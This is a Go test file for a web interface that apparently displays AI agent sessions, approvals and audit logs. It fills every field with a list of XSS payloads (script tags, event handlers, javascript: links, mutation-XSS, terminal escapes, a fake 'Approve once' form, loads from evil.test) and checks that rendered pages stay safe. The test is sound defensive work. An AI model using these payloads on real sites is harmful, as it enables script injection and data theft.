package handlers

import (
	"bytes"
	"fmt"
	"maps"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/a-h/templ"
	"github.com/go-json-experiment/json/jsontext"
	"golang.org/x/net/html"

	"nod/state"
	"nod/state/approvals"
	"nod/state/snapshot"
	"nod/views"
	"nod/views/markdown"
)

// hostile are texts that have taken over some page, somewhere.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>`,
	`"><script src=//evil.test/x.js></script>`,
	`' onmouseover='alert(1)' x='`,
	`" autofocus onfocus="alert(1)" style="position:fixed;inset:0`,
	`</div></main></details></pre></section></bdi><h1>owned</h1>`,
	`</textarea></title></style></script><script>alert(1)</script>`,
	`<!-- --><!--><script>alert(1)</script>--!>`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<form action=/s/x/delete method=post><button>Approve once</button><input name=option value=accept></form>`,
	`<base href=//evil.test/><link rel=stylesheet href=//evil.test/x><meta http-equiv=refresh content=0;url=//evil.test>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<template><slot name=x></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](java&#10;script:alert(1)) <javascript:alert(1)>`,
	`[a](data:text/html,<script>alert(1)</script>) [b](vbscript:x) [c](blob:x) [d](file:///etc/passwd)`,
	`[a](//evil.test) [b](/logout) [c](\\evil.test) [d](#dock) [e](?x) [f](s/1/delete) <//evil.test>`,
	`![x](http://evil.test/leak?q=1) ![y](//evil.test/x) ![z](data:image/svg+xml,<svg/onload=alert(1)>) ![](/logout)`,
	"[a]: javascript:alert(1)\n[b]: //evil.test \"onclick=\"\n\n[a] [b] ![a] ![b]",
	"\\`<script>alert(1)</script>\\` ``<b>`` `\\`<img src=x onerror=alert(1)>",
	"    ```\n<script>alert(1)</script>\n    ```\n<img src=x onerror=alert(1)>",
	"```\n~~~\n<script>alert(1)</script>\n~\n``` ~\n<img src=x onerror=alert(1)>\n```\n<svg onload=alert(1)>",
	"~~~\n```\n~~~ x\n<script>alert(1)</script>\n~~~~\n<img src=x onerror=alert(1)>",
	"```js\" onmouseover=\"alert(1)\" class=\"\n1\n```\n```'><script>alert(1)</script>\n2\n```",
	"```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]; click A \"javascript:alert(1)\"\n```\n```html\n<script>alert(1)</script>\n```",
	"| <script>alert(1)</script> | `|` |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
	"- [x] <input type=checkbox onclick=alert(1)>\n- [ ] <details open ontoggle=alert(1)>\n\n> <blockquote cite=javascript:alert(1)>",
	"x\u202e\u2066gpj.exe\u2069\u202c\u200b\u00a0\ufeff\u2028\u2029",
	"\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\ \x1b]8;;//evil.test\x07go\x1b]8;;\x07 \x1b]1337;File=inline=1:PHNjcmlwdD4=\x07 \x1b]52;c;eA==\x07",
	"\x1b[31m<script>alert(1)</script>\x1b[0m \x1bP1$r<b>\x1b\\ \x1b[1;2;3 \x9b31m \x00<scr\x00ipt>alert(1)</scr\x00ipt>\r<img src=x onerror=alert(1)>",
	"diff --git a/x b/x\n--- a/<img src=x onerror=alert(1)>\n+++ b/\"><script>alert(1)</script>\n@@ -1 +1 @@ </figure><script>alert(1)</script>\n-<script>a</script>\n+\x1b<svg onload=alert(1)>\n",
	`&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;b&amp;gt;`,
	`{{.}} ${alert(1)} <%= 1 %> {% raw %} @alert(1)`,
}

// filler puts a text of its own into every field that can hold one.
type filler struct {
	text  string         // that follows a field's mark
	marks map[string]int // by field, as in "Turn.ID"
	depth int
}

func (f *filler) value(field string) string {
	n, ok := f.marks[field]
	if !ok {
		n = len(f.marks) + 1
		f.marks[field] = n
	}
	return fmt.Sprintf("MARK%04d", n) + f.text
}

// json is a value as a JSON string.
func (f *filler) json(field string) []byte {
	raw, err := jsontext.AppendQuote(nil, strings.ToValidUTF8(f.value(field), "?"))
	if err != nil {
		panic(err)
	}
	return raw
}

// maxDepth is enough for every field: a schema may hold schemas.
const maxDepth = 12

// fill fills v, whatever it is made of. Fields of a named type of string are one
// word of a few; the test chooses it.
func (f *filler) fill(v reflect.Value, field string) {
	if f.depth++; f.depth > maxDepth {
		f.depth--
		return
	}
	defer func() { f.depth-- }()
	switch x := v.Addr().Interface().(type) {
	case *string:
		*x = f.value(field)
		return
	case *state.Text:
		*x = state.NewText(f.value(field))
		return
	case *jsontext.Value:
		*x = f.json(field)
		return
	case *[]byte:
		*x = f.json(field)
		return
	case *state.Parts:
		*x = state.PartsOf(f.parts()...)
		return
	case *[]state.ResponsePart:
		*x = f.parts()
		return
	case *snapshot.Terminals: // the tool calls name them
		return
	}
	switch v.Kind() {
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		f.fill(v.Elem(), field)
	case reflect.Struct:
		for i := range v.NumField() {
			if name := v.Type().Field(i); name.IsExported() {
				f.fill(v.Field(i), v.Type().Name()+"."+name.Name)
			}
		}
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		f.fill(v.Index(0), field)
	case reflect.Map:
		key, value := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
		f.fill(key, field+"(key)")
		f.fill(value, field)
		v.Set(reflect.MakeMap(v.Type()))
		v.SetMapIndex(key, value)
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Int64:
		v.SetInt(1)
	case reflect.Float64:
		v.SetFloat(1)
	}
}

func filled[T any](f *filler) *T {
	was := f.depth
	defer func() { f.depth = was }()
	f.depth = 0
	v := new(T)
	f.fill(reflect.ValueOf(v).Elem(), reflect.TypeFor[T]().Name())
	return v
}

// parts are a turn's parts: one of each kind, and tool calls in each state, with
// each kind of input and of content.
func (f *filler) parts() []state.ResponsePart {
	notification := filled[state.NotificationPart](f)
	list := []state.ResponsePart{
		filled[state.MarkdownPart](f), filled[state.ReasoningPart](f),
		filled[state.ContentRefPart](f), notification, filled[state.OpaquePart](f),
	}
	for _, status := range []state.ToolCallStatus{state.ToolStreaming, state.ToolPendingConfirmation, state.ToolRunning, state.ToolPendingResult, state.ToolCompleted, state.ToolCancelled} {
		for _, input := range []string{"command", "diff", ""} {
			for _, label := range []string{"invocation", "display", "name"} {
				p := filled[state.ToolCallPart](f)
				t := &p.ToolCall
				t.Status, t.Success = status, new(status != state.ToolCompleted)
				t.Meta = state.Meta{"nod.input": jsontext.Value(fmt.Sprintf("%q", input))}
				switch label { // each stands for the one before
				case "name":
					t.DisplayName = ""
					fallthrough
				case "display":
					t.InvocationMessage = nil
				}
				content := t.Content[0]
				t.Content = nil
				for _, kind := range []string{"text", "embeddedResource", "resource", "fileEdit", "terminal", "subagent"} {
					if kind == "terminal" && label == "name" { // a command's end stands for the reason of another
						continue
					}
					c := content
					c.Type = kind
					if kind == "subagent" {
						c.Resource = new("child")
					}
					t.Content = append(t.Content, c)
				}
				list = append(list, p)
			}
		}
	}
	return list
}

// session is a session with everything in it.
func (f *filler) session() snapshot.Session {
	s := *filled[snapshot.Session](f)
	s.ID, s.Parent = "id", "parent"
	s.Link.Status = state.LinkLost
	s.Children[0].ID, s.Children[0].URI = "childid", "child"
	plan := f.json("nod.plan")
	s.State.Meta = state.Meta{"nod.plan": slices.Concat([]byte(`[{"step":`), plan, []byte(`,"status":"inProgress"},{"step":`), plan, []byte(`,"status":`), plan, []byte(`}]`))}
	s.State.Turns[0].State = state.TurnError
	for _, p := range s.State.Turns[0].ResponseParts {
		if p, ok := p.(*state.ToolCallPart); ok {
			c := p.ToolCall.Content[4]
			if c.Type != state.ContentTerminal {
				continue
			}
			terminal := filled[state.Terminal](f)
			command := filled[state.CommandPart](f)
			terminal.Content = []state.TerminalPart{filled[state.UnclassifiedPart](f), command, filled[state.OpaqueTerminalPart](f)}
			s.Terminals = s.Terminals.With(*c.Resource, terminal)
		}
	}
	s.Approvals = nil
	for _, kind := range []state.RequestKind{state.RequestCommand, state.RequestFileChange, state.RequestPermissions, state.RequestRead, state.RequestTool, state.RequestQuestion, state.RequestElsewhere, state.RequestUnknown} {
		for _, st := range []approvals.State{approvals.Pending, approvals.Decided, approvals.Sent, approvals.Confirmed, approvals.AnsweredElsewhere, approvals.Expired, approvals.DeliveryUnknown} {
			for _, question := range []string{"text", "number", "integer", "boolean", "single-select", "multi-select"} {
				a := filled[approvals.Approval](f)
				a.ID, a.Nonce, a.Digest, a.State = fmt.Sprint("a", len(s.Approvals)), "nonce", "digest", st
				a.Request.Kind, a.Request.TurnID = kind, s.State.ActiveTurn.ID
				if a.Request.Session = s.State.Summary.Resource; st == approvals.Pending && question == "text" {
					a.Request.Session = "child"
				}
				approve, deny := a.Request.Options[0], a.Request.Options[0]
				approve.Kind, deny.Kind = state.OptionApprove, state.OptionDeny
				a.Request.Options = []state.ConfirmationOption{approve, deny}
				a.Decision.OptionID, a.Request.Explains = approve.ID, deny.ID
				if kind == state.RequestQuestion {
					a.Request.Questions.Questions[0].Kind = question
				} else {
					a.Request.Questions = nil
				}
				if st == approvals.Pending {
					a.Decision = nil
				}
				s.Approvals = append(s.Approvals, a)
			}
		}
	}
	return s
}

// pages draws everything that shows something of an agent: pages, and what goes
// out over a stream.
func (f *filler) pages(t *testing.T) map[string]string {
	t.Helper()
	s := f.session()
	link := *filled[state.Link](f)
	link.Offers.ReadOnly = ""
	in := snapshot.Inbox{Rev: 1, Sessions: []snapshot.Session{s}, Links: []state.Link{link}}
	colours := markdown.NewHighlighter()
	defer colours.Close()
	sheet := views.NewSheet("e", colours, func() {})
	sheet.Show(t.Context(), s, in, nil)
	pages := map[string]string{}
	draw := func(name string, c templ.Component) {
		t.Helper()
		var b bytes.Buffer
		if err := c.Render(t.Context(), &b); err != nil {
			t.Fatal(err)
		}
		pages[name] = b.String()
	}
	draw("session", sheet.Page(views.Draft{}))
	draw("earlier", sheet.Earlier(1, 40))
	draw("inbox", views.InboxPage(in, views.Cursor{}))
	draw("archive", views.ArchivePage(in.Sessions, ""))
	draw("delete", views.DeletePage(s, 1))
	record := views.AuditEntry{ID: 1, Who: f.value("AuditEntry.Who"), Title: f.value("AuditEntry.Title"), Address: f.value("AuditEntry.Address"), What: "request decided", Decided: filled[approvals.Approval](f)}
	draw("audit", views.AuditPage([]views.AuditEntry{record, {Title: f.value("AuditEntry.Title")}, {What: f.value("AuditEntry.What")}, {What: views.AuditRisky, Title: f.value("AuditEntry.Title")}}, 1))
	draw("audit entry", views.AuditEntryPage(record, []views.AuditEntry{record}))
	settings := []state.Setting{*filled[state.Setting](f), *filled[state.Setting](f)}
	settings[0].Open, settings[0].Turns = false, false // choices
	settings[1].Turns = false
	for i := range settings {
		settings[i].Name = fmt.Sprint("name", i)
	}
	fields := views.Fields{Prefix: "p", Settings: settings, Field: "name1", Problem: "a problem", Risky: map[string]bool{"name1": false}}
	draw("new", views.NewPage(views.NewSession{Links: in.Links, More: []views.Fields{fields}}))
	operation := *filled[state.Operation](f)
	operation.Name = "op"
	draw("operation", views.OperationPage(views.OperationForm{Session: s, Operation: operation, Fields: fields}))
	draw("rename", views.RenamePage(s, s.State.Summary.Title, ""))
	older := views.OlderPage{Link: in.Links[0], Page: *filled[state.OlderPage](f)}
	draw("older", views.OlderSessionsPage(older))
	resting, st := s, *s.State
	st.ActiveTurn = nil
	st.Config = &state.SessionConfigState{ // the names are the adapter's own
		Schema: state.ConfigSchema{Properties: map[string]state.ConfigPropertySchema{"name": *filled[state.ConfigPropertySchema](f)}},
		Values: map[string]jsontext.Value{"name": f.json("ConfigPropertySchema.Enum")},
	}
	resting.State, resting.Parent, resting.Link.Offers.Operations, resting.Link.Offers.ReadOnly = &st, "", []state.Operation{operation}, ""
	quiet := views.NewSheet("e", colours, func() {})
	quiet.Show(t.Context(), resting, in, nil)
	draw("resting", quiet.Page(views.Draft{}))
	watched := resting
	watched.Link.Offers.ReadOnly = s.Link.Offers.ReadOnly
	only := views.NewSheet("e", colours, func() {})
	only.Show(t.Context(), watched, in, nil)
	draw("watched", only.Page(views.Draft{}))
	busy, is := s, *s.State
	queue := f.json("nod.queue")
	is.Meta = state.Meta{state.MetaQueue: slices.Concat([]byte(`[{"id":`), queue, []byte(`,"text":`), queue, []byte(`}]`))}
	busy.State, busy.Parent, busy.Link.Offers.ReadOnly = &is, "", ""
	working := views.NewSheet("e", colours, func() {})
	working.Show(t.Context(), busy, in, nil)
	draw("busy", working.Page(views.Draft{}))
	for i := range snapshot.PartCount(s.State, 0) {
		draw(fmt.Sprint("whole ", i), views.WholePage(s, 0, i))
	}
	for i, a := range s.Approvals {
		if a.State != approvals.Pending {
			continue
		}
		c := views.Confirm{Approval: a, Session: s, From: s.ID, Option: a.Request.Options[0], Edited: f.value("edited by a person"), Answers: map[string]state.Answer{f.value("Question.ID"): {Selected: []string{"x"}, Text: f.value("typed by a person")}}}
		draw(fmt.Sprint("confirm ", i), views.ConfirmPage(c))
		if q := a.Request.Questions; q != nil {
			given := map[string]state.Answer{q.Questions[0].ID: {Selected: []string{"chosen"}, Text: f.value("typed by a person")}}
			draw(fmt.Sprint("answers ", i), views.AnswersPage(s, s.ID, a, given, map[string]string{q.Questions[0].ID: "This needs an answer."}))
		}
	}
	frame := func(name string, from views.Position) {
		var b bytes.Buffer
		if err := sheet.Since(t.Context(), &b, from); err != nil {
			t.Fatal(err)
		}
		pages[name] = string(oneNewline(b.Bytes()))
	}
	frame("stream, all of it", views.Position{})
	old := sheet.Here()
	var all []snapshot.Part
	for kind := snapshot.Head; kind <= snapshot.Composer; kind++ {
		if kind != snapshot.Turn { // its parts would not come one by one
			all = append(all, snapshot.Part{Kind: kind}, snapshot.Part{Kind: kind, Turn: 1})
		}
	}
	for i := range snapshot.PartCount(s.State, 1) {
		all = append(all, snapshot.Part{Kind: snapshot.Response, Turn: 1, Index: i})
	}
	s.Seq++
	in.Rev++
	sheet.Show(t.Context(), s, in, all)
	frame("stream, parts", old)
	return pages
}

// proseElements are what markdown may become.
var proseElements = strings.Fields("a blockquote br code del em h1 h2 h3 h4 h5 h6 hr li ol p pre span strong table tbody td th thead tr ul div sub sup kbd s")

// skeleton counts a page's elements, and finds what no text may make.
func skeleton(t *testing.T, name, page string) (elements map[string]int, wrong []string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	elements = map[string]int{}
	say := func(format string, args ...any) { wrong = append(wrong, fmt.Sprintf(format, args...)) }
	for n := range doc.Descendants() {
		switch n.Type {
		case html.CommentNode:
			say("a comment")
		case html.TextNode:
			if i := strings.IndexFunc(n.Data, isControl); i >= 0 && n.Parent.Data != "textarea" { // that goes back to the byte
				say("a control character in %.40q", n.Data[max(0, i-30):])
			}
		case html.ElementNode:
			elements[n.Data]++
			if n.Namespace != "" {
				say("an element of %s", n.Namespace)
			}
			for _, a := range n.Attr {
				elements[n.Data+"["+a.Key+"]"]++
				value := strings.ToLower(a.Val)
				switch a.Key {
				case "href":
					if in(n, "prose") && !strings.HasPrefix(value, "/s/id/turns/") {
						if !regexp.MustCompile(`^(https?://|mailto:)`).MatchString(value) {
							say("a link to %q", a.Val)
						}
					} else if !regexp.MustCompile(`^(/$|#|/(s|new|older|devices|archive|static|approvals|audit)\b)`).MatchString(value) {
						say("a link of ours to %q", a.Val)
					}
				case "src", "action":
					if !strings.HasPrefix(value, "/") || strings.HasPrefix(value, "//") || strings.ContainsAny(value, `<>"\`) {
						say("%s %q", a.Key, a.Val)
					}
				case "style", "srcdoc", "formaction", "xlink:href", "ping", "srcset", "background", "poster":
					say("an attribute %s", a.Key)
				case "class", "id", "for":
					if strings.ContainsAny(a.Val, `<>"'`) {
						say("%s %q", a.Key, a.Val)
					}
				}
				if strings.HasPrefix(a.Key, "on") {
					say("an attribute %s", a.Key)
				}
			}
		}
	}
	return elements, wrong
}

func isControl(c rune) bool { return c < ' ' && c != '\n' && c != '\t' || c >= 0x7f && c <= 0x9f }

// in reports whether a node is in an element of one of the classes.
func in(n *html.Node, classes ...string) bool {
	for ; n != nil; n = n.Parent {
		for _, a := range n.Attr {
			if a.Key == "class" && slices.ContainsFunc(strings.Fields(a.Val), func(c string) bool { return slices.Contains(classes, c) }) {
				return true
			}
		}
	}
	return false
}

// notShown are fields that hold text and that no page shows, besides what nod does
// not know of. Whoever shows one takes it from this list: the test has looked at it
// since.
var notShown = strings.Fields(`
	ActiveTurn.ID AgentSelection.URI Answer.Secret Approval.Actor Approval.ID Approval.Nonce
	ChangesetSummary.Description ChangesetSummary.Label ChangesetSummary.URITemplate Child.ID Child.URI CommandPart.CommandID
	CommandPart.CommandLine ConfigPropertySchema.Default ConfigPropertySchema.Description
	ConfigPropertySchema.Properties(key) ConfigPropertySchema.Required
	ConfigPropertySchema.Type ConfigSchema.Required ConfigSchema.Type
	ContentRefPart.ContentType Customization.ClientID Customization.Contents Customization.Description Customization.Globs Customization.ID
	Customization.Meta Customization.Meta(key) Customization.Name Customization.Nonce Customization.Type Customization.URI
	CustomizationLoadState.Kind CustomizationLoadState.Message Decision.Address Detail.Option ErrorInfo.ErrorType ErrorInfo.Stack
	FileSide.Content FileSide.URI Icon.ContentType Icon.Sizes Icon.Src Icon.Theme InputAnswer.FreeformValues InputAnswerValue.FreeformValues
	InputAnswerValue.Kind InputAnswerValue.Value InputRequest.Answers(key) InputRequest.ID Link.Epoch MarkdownPart.ID MarkdownPart.Meta MarkdownPart.Meta(key)
	Message.Meta Message.Meta(key) MessageAttachment.ContentType MessageAttachment.Data MessageAttachment.DisplayKind
	MessageAttachment.Meta MessageAttachment.Meta(key) MessageAttachment.ModelRepresentation MessageAttachment.Type MessageAttachment.URI Link.Key
	MessageOrigin.Kind ModelSelection.Config ModelSelection.Config(key) NotificationPart.Meta NotificationPart.Meta(key) OpaquePart.Kind
	OpaqueTerminalPart.Raw OpaqueTerminalPart.Type Operation.Name Setting.Name ProjectInfo.DisplayName ProjectInfo.URI
	Question.Format Question.Kind Question.Max Question.Min ReasoningPart.ID ReasoningPart.Meta ReasoningPart.Meta(key) Request.Epoch Request.Explains Request.Folder Request.Provider Request.Session Request.ToolCallID
	Request.TurnID Request.UpstreamID Session.ID Session.Meta Session.Meta(key) Session.Parent SessionActiveClient.ClientID
	SessionActiveClient.DisplayName SessionConfigState.Values SessionConfigState.Values(key) SessionSummary.Provider SessionSummary.Resource
	Terminal.Cwd Terminal.Title TerminalClaim.ClientID TerminalClaim.Kind TerminalClaim.Session TerminalClaim.ToolCallID TerminalClaim.TurnID
	ToolAnnotations.Title ToolCall.Confirmed ToolCall.Meta ToolCall.Meta(key) ToolCall.PartialInput ToolCall.StructuredContent
	ToolCall.StructuredContent(key) ToolCall.ToolCallID ToolCall.ToolClientID ToolDefinition.Description ToolDefinition.InputSchema
	ToolDefinition.Meta ToolDefinition.Meta(key) ToolDefinition.Name ToolDefinition.OutputSchema ToolDefinition.Title ToolError.Code
	ToolResultContent.AgentName ToolResultContent.ContentType ToolResultContent.Data ToolResultContent.Description ToolResultContent.Resource
	ToolResultContent.Title ToolResultContent.Type ToolResultContent.URI Turn.ID UsageInfo.Meta UsageInfo.Meta(key) UsageInfo.Model
`)

// TestC39EveryField puts hostile text into every field of what agents say, and
// draws all pages with it, and the parts as they are streamed. No text makes an
// element, but for the few that markdown makes; none makes a form, a script, a
// link that stays here or runs. A new field is tested or named above.
func TestC39EveryField(t *testing.T) {
	marks := map[string]int{}
	calm := (&filler{text: " harmless", marks: marks}).pages(t)
	counts := map[string]map[string]int{}
	shown := map[string]bool{}
	mark := regexp.MustCompile(`MARK\d{4}`)
	for name, page := range calm {
		var wrong []string
		if counts[name], wrong = skeleton(t, name, page); len(wrong) > 0 {
			t.Errorf("%s, harmless: %q", name, wrong)
		}
		for _, m := range mark.FindAllString(page, -1) {
			shown[m] = true
		}
	}
	for _, text := range hostile {
		for name, page := range (&filler{text: text, marks: marks}).pages(t) {
			elements, wrong := skeleton(t, name, page)
			if len(wrong) > 0 {
				t.Errorf("%s with %q: %q", name, text, wrong[:min(len(wrong), 5)])
			}
			for _, e := range slices.Sorted(maps.Keys(elements)) {
				element, _, _ := strings.Cut(e, "[")
				if elements[e] > counts[name][e] && !slices.Contains(proseElements, element) && !changesOfDiff[element] {
					t.Errorf("%s with %q has %d of %s instead of %d", name, text, elements[e], e, counts[name][e])
				}
			}
		}
	}
	for _, field := range slices.Sorted(maps.Keys(marks)) {
		is := shown[fmt.Sprintf("MARK%04d", marks[field])]
		listed := slices.Contains(notShown, field) || strings.HasSuffix(field, ".Unknown")
		if !is && !listed {
			t.Errorf("no page shows %s", field)
		}
		if is && listed {
			t.Errorf("a page shows %s: it is not to be in notShown", field)
		}
	}
}

// changesOfDiff are elements that a text has when it is a diff or of many lines.
var changesOfDiff = map[string]bool{"bdi": true, "b": true, "i": true, "ins": true, "figure": true, "figcaption": true, "small": true, "mark": true}
